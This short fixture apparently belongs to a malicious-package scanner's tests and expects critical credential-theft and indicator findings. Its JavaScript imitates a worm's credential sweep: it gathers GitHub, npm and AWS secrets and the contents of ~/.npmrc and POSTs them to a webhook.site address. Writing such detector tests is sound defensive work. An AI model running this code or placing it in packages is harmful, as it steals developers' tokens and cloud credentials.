#! path=bundle.js flags=install expect=L2-CRED-001:CRITICAL,L2-IOC-001:CRITICAL max=any
// Written for this test: a self-spreading worm's credential sweep (Shai-Hulud behaviour).
const os = require('os');
const https = require('https');
const { execSync } = require('child_process');
const found = {
  gh: process.env.GITHUB_TOKEN,
  npm: process.env.NPM_TOKEN,
  aws: [process.env.AWS_ACCESS_KEY_ID, process.env.AWS_SECRET_ACCESS_KEY],
};
try { found.rc = require('fs').readFileSync(os.homedir() + '/.npmrc', 'utf8'); } catch (e) {}
const body = JSON.stringify({ found, host: os.hostname() });
const req = https.request('https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7', { method: 'POST' });
req.end(body);
